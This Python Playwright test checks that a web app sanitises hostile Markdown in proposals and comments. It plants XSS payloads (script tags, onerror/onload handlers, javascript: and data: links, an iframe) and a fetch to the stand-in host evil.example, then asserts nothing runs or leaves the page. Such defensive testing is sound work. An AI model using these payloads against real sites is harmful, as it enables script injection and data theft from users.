"""Hostile Markdown in a proposal and a comment, opened in Chromium: no script runs, no
dialog opens, no request leaves for another host, and no javascript: link or remote image
reaches the page. Part of the adversarial suite (docs/SECURITY.md); it lives here to share
the one Chromium a test session may drive."""
import re

import pytest
from playwright.sync_api import expect

from tests.conftest import using_database
from tests.e2e.test_journey import main
from tests.e2e.test_proposal_journey import open_proposal, signed_in

pytestmark = pytest.mark.e2e

HOSTILE = """开头的正常文字 MARKER-OK

<script>window.__xss = 1; fetch('http://evil.example/steal')</script>
<img src=x onerror="window.__xss = 2">
[点这里](javascript:window.__xss=3)
[data link](data:text/html,<script>window.__xss=4</script>)
![远程图片](http://evil.example/track.png)
<iframe src="http://evil.example/frame"></iframe>
<a href="http://evil.example/" onclick="window.__xss=5">外链</a>
<svg onload="window.__xss=6"></svg>
"""


def plant(database_url: str) -> int:
    from sqlmodel import select

    from core.accounts.sessions import principal_for
    from core.discussion import add_comment
    from core.proposals.commands import submit_proposal
    from db.engine import read_session
    from db.models import User

    with using_database(database_url):
        with read_session() as s:
            author = principal_for(s.exec(select(User).where(User.username == "resident")).one())
        proposal_id = submit_proposal(actor=author, kind="proposal", title="恶意标记测试",
                                      body=HOSTILE, category="facilities")
        add_comment(actor=author, proposal_id=proposal_id, body=HOSTILE)
    return proposal_id


def test_hostile_markdown_does_nothing(browser, app_url, e2e_database):
    proposal_id = plant(e2e_database)
    context = browser.new_context(locale="zh-CN")
    page = context.new_page()
    dialogs, foreign = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    context.route(re.compile(r"^(?!https?://(127\.0\.0\.1|localhost)[:/])"),
                  lambda route: (foreign.append(route.request.url), route.abort()))
    try:
        signed_in(page, app_url, "moderator")
        open_proposal(page, app_url, str(proposal_id))
        expect(main(page).get_by_text("MARKER-OK").first).to_be_visible()
        page.wait_for_timeout(1500)  # time for anything that would fire
        for link in main(page).get_by_role("link", name="点这里").all():
            link.click()  # if a javascript: link had survived, this would run it
        page.wait_for_timeout(500)
        assert page.evaluate("window.__xss") is None
        assert dialogs == []
        assert foreign == []
        assert page.locator('[data-testid="stMain"] a[href^="javascript:"]').count() == 0
        assert page.locator('[data-testid="stMain"] img[src*="evil.example"]').count() == 0
        assert page.locator('[data-testid="stMain"] iframe[src*="evil.example"]').count() == 0
    finally:
        context.close()
